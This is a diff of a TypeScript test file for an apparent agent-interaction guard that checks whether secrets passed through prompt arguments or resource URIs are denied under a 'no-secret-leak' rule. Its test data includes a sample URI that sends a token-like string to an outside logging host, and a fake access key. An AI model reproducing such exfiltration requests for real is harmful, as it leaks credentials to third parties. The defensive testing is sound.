@@ -21,7 +21,7 @@ describe('default book: a secret sent through a prompt request or a resource URI
   });
   afterAll(async () => guard?.close());
 
-  it.each<[string, Omit<Interaction, 'agent' | 'session' | 'profile'>]>([
+  it.each<[string, Record<string, unknown>]>([
     ['prompts/get arguments', { kind: 'prompt_request', server: 'docs', prompt: 'summarize', arguments: { text: 'key AKIAIOSFODNN7EXAMPLE' } }],
     ['a resource URI', { kind: 'resource_request', server: 'web', uri: 'https://logs.elsewhere.example/in?k=ghp_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789' }],
   ])('is denied through %s', async (_route, i) => {
@@ -30,7 +30,7 @@ describe('default book: a secret sent through a prompt request or a resource URI
     expect(d.rules).toContain('no-secret-leak');
   });
 
-  it.each<[string, Omit<Interaction, 'agent' | 'session' | 'profile'>]>([
+  it.each<[string, Record<string, unknown>]>([
     ['prompts/get arguments', { kind: 'prompt_request', server: 'docs', prompt: 'summarize', arguments: { path: 'notes.md' } }],
     ['a resource URI', { kind: 'resource_request', server: 'ws', uri: 'workspace://files/notes.md' }],
     ['a resource URI naming a commit', { kind: 'resource_request', server: 'git', uri: 'git://repo/commit/9fceb02d0ae598e95dc970b74767f19372d61af8' }],
